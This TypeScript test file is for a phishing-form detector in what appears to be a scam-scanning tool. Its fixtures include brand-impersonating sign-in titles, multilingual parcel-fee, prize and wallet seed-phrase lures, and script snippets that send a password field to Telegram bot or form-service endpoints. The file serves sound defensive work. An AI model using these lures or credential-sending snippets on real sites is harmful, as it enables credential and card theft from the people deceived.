import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
import { observed, PAGE, slugsOf } from '../../support/detected.ts';
import { requestOf } from '../../support/running-farm.ts';

type Fields = ObservationOf<'form'>['facts']['fields'];

describe('§2.5.13 phishing_form', () => {
  const login = (facts: Partial<ObservationOf<'form'>['facts']> = {}, url = PAGE) =>
    observed(
      'form',
      { fields: ['password'], action_url: 'https://win.example/next', text: 'Sign in', ...facts },
      0,
      url,
    );
  const title = 'Sign in to your Netflix account';

  it('is found for a form for secrets under the title of a brand, on a site that is not its own', () => {
    assert.deepEqual(slugsOf({ title }, [login()]), ['phishing_form']);
    assert.deepEqual(slugsOf({ title }, [login({ fields: ['phone'] })]), []);
    assert.deepEqual(slugsOf({ title, url: 'https://www.netflix.com/' }, [login({}, 'https://www.netflix.com/')]), []);
    assert.deepEqual(slugsOf({ title, url: 'https://netflix.login-now.example/' }, [login()]), ['phishing_form']);
  });

  it('knows the domains of a brand in its countries, and no others', () => {
    const found = (brand: string, url: string) =>
      slugsOf({ title: `Log in to your ${brand} account`, url }, [login({}, url)]).length > 0;
    for (const [brand = '', url = ''] of [
      ['Amazon', 'https://www.amazon.de/ap/signin'],
      ['Amazon', 'https://www.amazon.co.uk/ap/signin'],
      ['Google', 'https://accounts.google.com.br/'],
      ['PayPal', 'https://www.paypal.com/signin'],
    ])
      assert.equal(found(brand, url), false, url);
    for (const [brand = '', url = ''] of [
      ['PayPal', 'https://login.paypal.tk/'],
      ['Amazon', 'https://amazon.tk/'],
      ['Amazon', 'https://amazon.co/'],
      ['Amazon', 'https://bucket.s3.amazonaws.com/login.html'],
      ['Amazon', 'https://ec2-203-0-113-7.compute-1.amazonaws.com/'],
      ['Google', 'https://sites.google.com/view/login'],
      ['Microsoft', 'https://acme.sharepoint.com/login'],
    ])
      assert.equal(found(brand, url), true, url);
  });

  it('is not found in a shop that sells products of a brand, or for a button of another login', () => {
    assert.deepEqual(slugsOf({ title: 'Netflix gift cards | Card Shop' }, [login()]), []);
    assert.deepEqual(slugsOf({ title: 'Shop' }, [login({ text: 'Log in\nor sign in with your Google account' })]), []);
    assert.deepEqual(slugsOf({ title: 'Shop' }, [login({ text: 'Log in with your Google password' })]), []);
  });

  it('is found for a form that names a brand, or shows its image', () => {
    assert.deepEqual(slugsOf({}, [login({ text: 'Confirm your PayPal password' })]), ['phishing_form']);
    const requests = [requestOf(1, { url: 'https://www.paypal.com/logo.svg', resource_type: 'image', landing: 0 })];
    const form = login({ text: 'PayPal\nWelcome back' });
    assert.deepEqual(slugsOf({}, [form], { requests }), ['phishing_form']);
    assert.deepEqual(slugsOf({}, [form]), []);
  });

  it('is not found for a button of another login or a way to pay with the pixel of its owner', () => {
    const withPicture = (text: string, url: string, facts: Partial<ReturnType<typeof requestOf>> = {}) => {
      const request = {
        url,
        resource_type: 'image',
        content_type: 'image/gif',
        body_size: 4_000,
        landing: 0,
        ...facts,
      };
      return slugsOf({}, [login({ text })], { requests: [requestOf(1, request)] });
    };
    const shop = 'Log in\nE-mail\nPassword\nContinue with Facebook';
    const checkout = 'Card number\nSecurity code\nPayPal';
    assert.deepEqual(withPicture(shop, 'https://www.facebook.com/tr?id=1&ev=PageView'), []);
    assert.deepEqual(withPicture(shop, 'https://www.facebook.com/images/a.png'), []);
    assert.deepEqual(withPicture('Google\nApple', 'https://www.google.com/pagead/1p-user-list/1/?random=1'), []);
    assert.deepEqual(withPicture(checkout, 'https://t.paypal.com/ts?v=1'), []);
    assert.deepEqual(withPicture(checkout, 'https://www.paypal.com/a.gif', { body_size: 43 }), []);
    assert.deepEqual(withPicture(checkout, 'https://www.paypal.com/a', { status_code: 204 }), []);
    assert.deepEqual(withPicture(checkout, 'https://www.paypal.com/logo.png'), ['phishing_form']);
  });

  it('is found for a form that asks for the identifier only, under the title or with the sign-in pictures of a brand', () => {
    const first = login({ fields: ['identifier'], text: 'Sign in\nNext' });
    const text = 'Sign in\nEmail, phone, or Skype\nNext';
    const of = (url: string) => ({ requests: [requestOf(1, { url, resource_type: 'image', landing: 0 })] });
    const assets = of('https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg');
    assert.deepEqual(slugsOf({ title: 'Sign in to your Microsoft account' }, [first]), ['phishing_form']);
    assert.deepEqual(slugsOf({ title: 'Sign in to your account', text }, [first], assets), ['phishing_form']);
    assert.deepEqual(slugsOf({ title: 'Sign in to your account', text }, [first]), []);
    assert.deepEqual(slugsOf({ title: 'Contoso', text: 'Sign in\nNext' }, [first], assets), []);
    const badge = of('https://get.microsoft.com/images/badge.svg');
    assert.deepEqual(slugsOf({ title: 'Join', text: 'E-mail\nSkype' }, [first], badge), []);
    const posted = login({ fields: ['identifier'], action_url: 'https://formspree.io/f/1', text: 'Skype' });
    assert.deepEqual(slugsOf({ title: 'Contact' }, [posted]), []);
  });

  it('is found on a copy of a page that warns of scams, and not on a page about such copies', () => {
    const footer = 'Scam alerts\nReport a scam';
    assert.deepEqual(slugsOf({ title: 'Sign in | Chase', text: footer }, [login()]), ['phishing_form']);
    const action_url = 'https://api.telegram.org/bot1:x/sendMessage';
    assert.deepEqual(slugsOf({ text: footer }, [login({ action_url })]), ['phishing_form']);
    const code = 'fetch("https://api.telegram.org/bot1:x/send")';
    assert.deepEqual(slugsOf({ text: footer, html: `<script>${code}</script>` }, [login()]), ['phishing_form']);
    assert.deepEqual(slugsOf({ text: footer, html: `<pre>${code}</pre>` }, [login()]), []);
    const article = { title: 'PayPal scams explained', text: footer };
    assert.deepEqual(slugsOf(article, [login({ text: 'Confirm your PayPal password' })]), []);
  });

  it('is found for a password that is sent to an endpoint for form data', () => {
    const to = (action_url: string) => slugsOf({}, [login({ action_url })]);
    assert.deepEqual(to('https://api.telegram.org/bot1:x/sendMessage'), ['phishing_form']);
    assert.deepEqual(to('https://login.another.example/'), []);
  });
});

describe('§2.5.13 phishing by titles, wallets, parcels and services for forms', () => {
  const form = (facts: Partial<ObservationOf<'form'>['facts']>) =>
    observed('form', { fields: ['password'], action_url: `${PAGE}/next`, text: 'Sign in', ...facts });
  const scriptFile = (text: string) => {
    return { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text };
  };

  it('phishing_form is found under the titles that the sign-in pages of brands have', () => {
    const slugs = (title: string, url = PAGE) => slugsOf({ title, url }, [{ ...form({ text: 'Log in' }), url }]);
    for (const title of [
      'Amazon Sign-In',
      'Amazonサインイン',
      'Facebook - log in or sign up',
      'Log into Facebook',
      'LinkedIn: Log In or Sign Up',
      'Loggen Sie sich bei PayPal ein',
      'Connectez-vous à votre compte PayPal',
      'Steam Community',
      'DHL Express',
      'Correios - Pagamento',
    ])
      assert.deepEqual(slugs(title), ['phishing_form'], title);
    for (const title of [
      'Amazon sellers log in',
      'Sign-in for Facebook pages by Acme',
      'Log in or sign up',
      'Amazonギフト券の店',
    ])
      assert.deepEqual(slugs(title), [], title);
    assert.deepEqual(slugs('Amazon Sign-In', 'https://www.audible.de/ap/signin'), []);
  });

  it('wallets by which visitors sign in are no phishing_form, and the phrase of one is', () => {
    const slugs = (text: string, fields: Fields = ['password']) => slugsOf({}, [form({ fields, text })]);
    for (const text of [
      'E-mail\nPassword\nor\nTrust Wallet\nMetaMask',
      'E-mail\nPassword\nTrust Wallet',
      'E-mail\nPassword\nMetaMask wallet\nCoinbase Wallet',
    ])
      assert.deepEqual(slugs(text), [], text);
    for (const text of ['Enter your Trust Wallet password', 'Your MetaMask wallet\nPassword'])
      assert.deepEqual(slugs(text), ['phishing_form'], text);
    assert.deepEqual(slugs('MetaMask wallet\nCoinbase Wallet\nRecovery phrase', ['seed_phrase']), ['phishing_form']);
  });

  it('a bank that issues cards, and a shop that fills up accounts, are no phishing_form', () => {
    const slugs = (text: string, fields: Fields) => slugsOf({}, [form({ fields, text })]);
    assert.deepEqual(
      slugs('Card portal\nYour Mastercard account\nCard number\nPassword', ['card_number', 'password']),
      [],
    );
    assert.deepEqual(slugs('Your Mastercard account is suspended\nCard number', ['card_number']), ['phishing_form']);
    assert.deepEqual(slugs('Steam account\nAmount\nCard number', ['identifier', 'card_number']), []);
    assert.deepEqual(slugs('Your Netflix account is on hold\nCard number', ['card_number']), ['phishing_form']);
    assert.deepEqual(slugs('Steam account\nPassword', ['password']), ['phishing_form']);
    assert.deepEqual(slugs('メールアドレス\nパスワード\nAmazonアカウントでお支払い', ['password']), []);
    assert.deepEqual(slugs('Amazonアカウント\nパスワード', ['password']), ['phishing_form']);
  });

  it('phishing_form is found for a card under the title that a parcel service has', () => {
    for (const title of ['USPS.com® - USPS Tracking®', 'UPS | Delivery', 'DHL Parcel redelivery'])
      assert.deepEqual(slugsOf({ title }, [form({ fields: ['card_number'], text: 'Card number' })]), ['phishing_form']);
    for (const title of [
      'Royal Mail - Reschedule delivery',
      'DHL Sendungsverfolgung',
      'La Poste - Suivi de colis',
      'Correos Express | Pago',
    ])
      assert.deepEqual(slugsOf({ title }, [form({ fields: ['card_number'], text: '' })]), ['phishing_form'], title);
    const url = 'https://www.royalmail.com/pay';
    const own = { ...form({ fields: ['card_number'] }), url };
    assert.deepEqual(slugsOf({ title: 'Royal Mail - Reschedule delivery', url }, [own]), []);
    assert.deepEqual(slugsOf({ title: 'DHL Parcel | Acme Lamps' }, [form({ text: 'Log in' })]), []);
  });

  it('phishing_form is found for the phrase of a wallet under a pretext', () => {
    const asked = form({ fields: ['seed_phrase'], text: '' });
    for (const text of [
      'Validate your wallet',
      'Synchronize your wallet to claim the airdrop',
      'Enter your recovery phrase to claim 500 tokens',
    ]) {
      assert.deepEqual(slugsOf({ text }, [asked]), ['phishing_form'], text);
      assert.deepEqual(slugsOf({ text }, [form({})]), [], text);
    }
    assert.deepEqual(slugsOf({ text: 'Validate your wallet. Beware of scams: a scam' }, [asked]), []);
  });

  it('phishing_form is found for a card under the pretext of a parcel that is held, without the name of a carrier', () => {
    const asked = (text: string, url = PAGE, fields: Fields = ['card_number']) =>
      slugsOf({ text, url }, [form({ fields, text: 'Card' })]);
    const lures = [
      'Your parcel is on hold. Pay the customs fee of 1.99 € for its delivery.',
      'Your package could not be delivered. Redelivery fee: $0.30',
      'Ihr Paket wartet auf die Zustellung. Bitte zahlen Sie die Zollgebühr von 1,99 €.',
      'Votre colis est en attente de livraison. Frais: 1,99 €',
      'Su paquete está retenido en la aduana. Tarifa: 2,64 €',
      'Sua encomenda foi taxada. Pague a taxa para a entrega.',
      'Il tuo pacco è in giacenza. Spese di consegna: 2 €',
      'Twoja paczka została wstrzymana. Opłata za dostawę: 1,99 zł',
      'Ваша посылка задержана. Оплатите доставку.',
      'Kargonuz beklemede. Teslimat ücreti: 9,90 TL',
      'お荷物を保留しています。配達の手数料をお支払いください。',
      'Váš balík byl pozastaven. Poplatek za doručení: 29 Kč',
      'Gói hàng của bạn đang chờ giao hàng. Phí: 20.000 đ',
      '您的包裹已滞留，请支付配送费。',
    ];
    for (const text of lures) {
      assert.deepEqual(asked(text), ['phishing_form'], text);
      assert.deepEqual(asked(text, PAGE, ['phone']), [], text);
    }
    const [lure = ''] = lures;
    for (const url of ['https://www.anpost.com/pay', 'https://www.dhl.de/zoll', 'https://customs.gov.sg/pay'])
      assert.deepEqual(asked(lure, url), [], url);
    for (const honest of [
      'Your parcel will be delivered on Monday. Shipping fee: 4.99 €',
      'If your parcel is held by customs, a fee may be due on delivery.',
      'Your package has been suspended. Activation fee: $10 for fast internet.',
      'Wenn Ihr Paket nicht zugestellt werden kann, fällt eine Gebühr an. Lieferung in 2 Tagen.',
      'Beware of the scam "Your parcel is on hold, pay a fee for its delivery": fake messages.',
    ])
      assert.deepEqual(asked(honest), [], honest);
  });

  it('phishing_form is found for a card to have a prize sent, and not at a raffle, a sweepstake or a shop', () => {
    const asked = (text: string, fields: Fields = ['card_number']) =>
      slugsOf({ text }, [form({ fields, text: 'Card' })]);
    for (const text of [
      'Congratulations, you have won an iPhone 16 Pro!\nPay £1.99 for shipping.',
      "You've won a Dyson Airwrap\nConfirm your card for the delivery of your prize.",
      'Herzlichen Glückwunsch! Sie haben ein iPhone 16 gewonnen.\nNur 1,95 € Versandkosten',
      'Vous avez gagné un iPhone 16 !\nFrais de livraison: 1,95 €',
      '¡Felicidades! Has ganado un iPhone 16.\nGastos de envío: 1,95 €',
    ]) {
      assert.deepEqual(asked(text), ['phishing_form'], text);
      assert.deepEqual(asked(text, ['phone']), [], text);
    }
    for (const text of [
      'Win an iPhone 16: tickets from £0.99.\nThe winner is drawn on Friday. Free delivery of the prize.',
      "You've won 10% off your first order!\nDelivery: 4.99 €",
      'If you have won an iPhone, we write to you.\nShipping is free for the winner.',
      'Gewinnspiel: iPhone 16 zu gewinnen.\nVersand an die Gewinner ist kostenlos.',
      'Sie haben 500 Punkte gewonnen.\nLieferung in zwei Tagen.',
      'Gagnez un iPhone 16. Livraison offerte aux gagnants.',
      'Participa y gana un iPhone 16. Envío gratis.',
      'Beware of the scam "You have won an iPhone, pay for shipping": fake messages.',
    ])
      assert.deepEqual(asked(text), [], text);
  });

  it('phishing_form is found for a phrase that is asked for after a connection that always fails', () => {
    const asked = form({ fields: ['seed_phrase'], text: '' });
    for (const text of ['Error connecting...\nConnect manually', 'Migrate your tokens to the new chain'])
      assert.deepEqual(slugsOf({ text }, [asked]), ['phishing_form'], text);
    for (const text of [
      'Import a wallet\nRestore it by its recovery phrase',
      'Failed to connect to the node\nImport a wallet',
    ])
      assert.deepEqual(slugsOf({ text }, [asked]), [], text);
  });

  it('phishing_form is found for a script that sends secrets to a service for forms, not for a contact form beside a login', () => {
    const slugs = (code: string) => slugsOf({}, [form({})], { bodies: [scriptFile(code)] });
    for (const endpoint of ['https://formspree.io/f/abc', 'https://api.web3forms.com/submit']) {
      assert.deepEqual(slugs(`fetch("${endpoint}",{body:password.value})`), ['phishing_form'], endpoint);
      assert.deepEqual(slugs(`fetch("${endpoint}",{body:message.value})`), [], endpoint);
    }
    const action_url = 'https://api.web3forms.com/submit';
    assert.deepEqual(slugsOf({}, [form({ action_url })]), ['phishing_form']);
    assert.deepEqual(slugsOf({}, [form({ action_url, fields: ['phone'] })]), []);
  });
});
